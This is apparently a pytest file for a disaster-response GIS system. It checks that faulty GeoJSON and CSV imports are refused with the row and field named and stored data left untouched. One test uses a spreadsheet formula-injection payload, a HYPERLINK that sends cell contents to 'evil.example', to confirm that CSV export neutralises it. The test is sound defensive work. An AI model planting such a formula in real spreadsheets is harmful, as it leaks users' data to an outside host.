"""Imports a fuzzer and a careless spreadsheet break: each is refused naming file, row and
field, and nothing already stored is lost or half-written (both backends)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from geoalchemy2.shape import to_shape
from shapely.geometry import Point, box, mapping
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from disaster.access import cli_actor
from disaster.communities import Community
from disaster.hazards import HazardZone, upsert_hazard_zones
from disaster.officers import Officer
from gis.errors import CRSError, ValidationError
from gis.vector_io import VectorFileError
from shelters.models import Shelter
from stockpile.models import StockLevel
from tests.web.data_factories import COUNTY, TOWN_A, TOWN_B, audit_count, build_city, movement_count
from web.data_io import export_kind, import_file

ADMIN = cli_actor()


def _geojson(path: Path, features: list[dict]) -> Path:
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features},
                               ensure_ascii=False), encoding="utf-8")
    return path


def _feature(geom: object, **props: object) -> dict:
    return {"type": "Feature", "properties": props,
            "geometry": mapping(geom) if geom is not None else None}


def _stored(session: Session) -> tuple[int, int, int]:
    return (session.scalar(select(func.count()).select_from(Community)),
            audit_count(session), movement_count(session))


def test_feature_with_null_geometry_is_refused_naming_the_row(session: Session,
                                                              tmp_path: Path) -> None:
    build_city(session)
    before = _stored(session)
    path = _geojson(tmp_path / "communities.geojson", [
        _feature(box(117.0, 33.6, 117.01, 33.61), code=f"{TOWN_B}001", name="东关村",
                 township_code=TOWN_B, county_code=COUNTY, population=800),
        _feature(None, code=f"{TOWN_B}002", name="无形村", township_code=TOWN_B,
                 county_code=COUNTY, population=700),
        # An existing community must not lose its polygon either.
        _feature(None, code=f"{TOWN_A}001", name="第1社区", township_code=TOWN_A,
                 county_code=COUNTY, population=1001),
    ])
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "communities", path)
    assert set(caught.value.fields) == {"row 2: geometry", "row 3: geometry"}
    assert "communities.geojson" in caught.value.message
    assert _stored(session) == before
    kept = session.scalar(select(Community.geom).where(Community.code == f"{TOWN_A}001"))
    assert kept is not None and not to_shape(kept).is_empty


def test_hazard_zone_update_with_null_geometry_keeps_the_stored_polygon(
        session: Session, tmp_path: Path) -> None:
    build_city(session)
    upsert_hazard_zones(session, ADMIN, [{"code": "HZ1", "name": "低洼区", "kind": "flood_prone",
                                          "level": 2, "geometry": box(117, 33.6, 117.02, 33.62)}])
    path = _geojson(tmp_path / "zones.geojson",
                    [_feature(None, code="HZ1", name="低洼区", kind="flood_prone", level=3)])
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "hazard-zones", path)
    assert list(caught.value.fields) == ["row 1: geometry"]
    zone = session.scalar(select(HazardZone).where(HazardZone.code == "HZ1"))
    assert zone.geom is not None and zone.level == 2


def test_every_row_outside_china_is_listed_not_only_the_first(session: Session,
                                                                tmp_path: Path) -> None:
    build_city(session)
    path = tmp_path / "shelters.csv"
    path.write_text("code,name,kind,capacity,lon,lat\n"
                    "SH1,一中,emergency,500,117.01,33.65\n"
                    "SH2,巴黎,emergency,500,2.35,48.85\n"
                    "SH3,二中,emergency,500,117.02,33.65\n"
                    "SH4,纽约,emergency,500,-74.0,40.7\n", encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "shelters", path)
    assert set(caught.value.fields) == {"row 2: lon/lat", "row 4: lon/lat"}
    assert "rows 2, 4" in caught.value.message
    assert session.scalar(select(func.count()).select_from(Shelter)) == 0


def test_latin1_file_is_not_imported_garbled(session: Session, tmp_path: Path) -> None:
    build_city(session)
    path = tmp_path / "depots.csv"
    path.write_bytes((f"code,name,level,county_code,lon,lat\n"
                      f"DP1,Müllerstraße,county,{COUNTY},117.0,33.6\n"
                      f"DP2,Bäckerstraße,county,{COUNTY},117.1,33.6\n").encode("latin-1"))
    before = _stored(session)
    with pytest.raises(VectorFileError) as caught:
        import_file(session, ADMIN, "depots", path)
    assert "depots.csv" in caught.value.message and "--encoding" in caught.value.message
    assert _stored(session) == before


def test_crs_3857_over_degrees_says_the_coordinates_are_degrees(session: Session,
                                                                tmp_path: Path) -> None:
    build_city(session)
    path = tmp_path / "depots.csv"
    path.write_text(f"code,name,level,county_code,lon,lat\nDP1,库,county,{COUNTY},117.0,33.6\n",
                    encoding="utf-8")
    with pytest.raises(CRSError) as caught:
        import_file(session, ADMIN, "depots", path, crs="EPSG:3857")
    assert "degrees" in caught.value.message and "declares no CRS" not in caught.value.message


def test_bad_stock_quantities_and_unknown_codes_are_all_named_and_stock_kept(
        session: Session, tmp_path: Path) -> None:
    build_city(session)
    good = tmp_path / "stock.csv"
    good.write_text("depot,item,quantity\nDP341302,QUILT,500\n", encoding="utf-8")
    import_file(session, ADMIN, "stock", good)
    before = _stored(session)
    bad = tmp_path / "stock_bad.csv"
    bad.write_text("depot,item,quantity,lot\n"
                   "DP341302,QUILT,480,\n"       # would change stored stock: must not
                   "DP341302,QUILT,-3,L2\n"
                   "DP341302,WATER,NaN,\n"
                   "DP341302,WATER,inf,L3\n"
                   "DP404,QUILT,5,\n"
                   "DP341302,NOPE,5,\n", encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "stock", bad)
    assert set(caught.value.fields) >= {"row 2: quantity", "row 3: quantity",
                                        "row 4: quantity", "row 5: depot", "row 6: item"}
    assert not any(k.startswith("row 1:") for k in caught.value.fields)
    assert "DP404" in str(caught.value.fields["row 5: depot"][0])
    assert _stored(session) == before
    assert session.scalar(select(func.sum(StockLevel.on_hand))) == 500


def test_unknown_township_county_and_community_codes_are_named(session: Session,
                                                               tmp_path: Path) -> None:
    build_city(session)
    communities = tmp_path / "c.csv"
    communities.write_text("code,name,township_code,county_code,population,lon,lat\n"
                           "341302099001,甲村,341302099,341302,100,117.0,33.6\n"
                           "341302002001,乙村,341302002,341399,100,117.0,33.6\n",
                           encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "communities", communities)
    assert {"row 1: township_code", "row 2: county_code"} <= set(caught.value.fields)
    shelters = tmp_path / "s.csv"
    shelters.write_text("code,name,kind,capacity,community_code,lon,lat\n"
                        "SH1,一中,emergency,500,341302001999,117.01,33.65\n", encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "shelters", shelters)
    assert list(caught.value.fields) == ["row 1: community_code"]


@pytest.mark.parametrize("written", ["0", "false", "否", "no"])
def test_officers_csv_with_active_written_as_no_deactivates(session: Session, tmp_path: Path,
                                                            written: str) -> None:
    build_city(session)
    path = tmp_path / "officers.csv"
    path.write_text(f"code,name,home_community_code,primary,active\n"
                    f"OF1,张伟,{TOWN_A}001,{TOWN_A}001,是\n", encoding="utf-8")
    import_file(session, ADMIN, "officers", path)
    assert session.scalar(select(Officer.active).where(Officer.code == "OF1")) is True
    path.write_text(f"code,name,home_community_code,primary,active\n"
                    f"OF1,张伟,{TOWN_A}001,{TOWN_A}001,{written}\n", encoding="utf-8")
    assert import_file(session, ADMIN, "officers", path).updated == 1
    assert session.scalar(select(Officer.active).where(Officer.code == "OF1")) is False


def test_officers_csv_with_an_unreadable_yes_no_is_refused(session: Session,
                                                           tmp_path: Path) -> None:
    build_city(session)
    path = tmp_path / "officers.csv"
    path.write_text(f"code,name,primary,active\nOF1,张伟,{TOWN_A}001,maybe\n", encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "officers", path)
    assert list(caught.value.fields) == ["row 1: active"]


def test_a_refused_file_leaves_every_stored_record_as_it_was(session: Session,
                                                             tmp_path: Path) -> None:
    build_city(session)
    before = _stored(session)
    path = tmp_path / "c.csv"
    path.write_text("code,name,township_code,county_code,population,households,lon,lat\n"
                    f"{TOWN_A}001,改名社区,{TOWN_A},{COUNTY},5000,900,,\n"
                    f"{TOWN_A}002,第2社区,{TOWN_A},{COUNTY},-1,10,,\n", encoding="utf-8")
    with pytest.raises(ValidationError):
        import_file(session, ADMIN, "communities", path)
    first = session.scalar(select(Community).where(Community.code == f"{TOWN_A}001"))
    assert (first.name, first.population) == ("第1社区", 1001)
    assert _stored(session) == before


def test_csv_export_neutralises_formula_names_and_imports_them_back(session: Session,
                                                                    tmp_path: Path) -> None:
    build_city(session)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    path = _geojson(tmp_path / "shelters.geojson", [
        _feature(Point(117.01, 33.65), code="SH1", name=evil, kind="emergency", capacity=500)])
    import_file(session, ADMIN, "shelters", path)
    out = tmp_path / "shelters.csv"
    export_kind(session, "shelters", "csv", out)
    row = next(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert row["name"] == "'" + evil
    assert float(row["lon"]) == pytest.approx(117.01)
    summary = import_file(session, ADMIN, "shelters", out)
    assert summary.unchanged == 1
    assert session.scalar(select(Shelter.name).where(Shelter.code == "SH1")) == evil


def test_empty_or_missing_geometry_is_refused_like_a_null_one(session: Session,
                                                              tmp_path: Path) -> None:
    build_city(session)
    path = tmp_path / "zones.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [
        {"type": "Feature", "properties": {"code": "HZ1", "name": "空", "kind": "flood_prone"},
         "geometry": {"type": "Polygon", "coordinates": []}},
        {"type": "Feature", "properties": {"code": "HZ2", "name": "无", "kind": "flood_prone"}},
        {"type": "Feature", "properties": {"code": "HZ3", "name": "好", "kind": "flood_prone"},
         "geometry": mapping(box(117, 33.6, 117.01, 33.61))},
    ]}), encoding="utf-8")
    with pytest.raises(ValidationError) as caught:
        import_file(session, ADMIN, "hazard-zones", path)
    assert set(caught.value.fields) == {"row 1: geometry", "row 2: geometry"}
    assert session.scalar(select(func.count()).select_from(HazardZone)) == 0
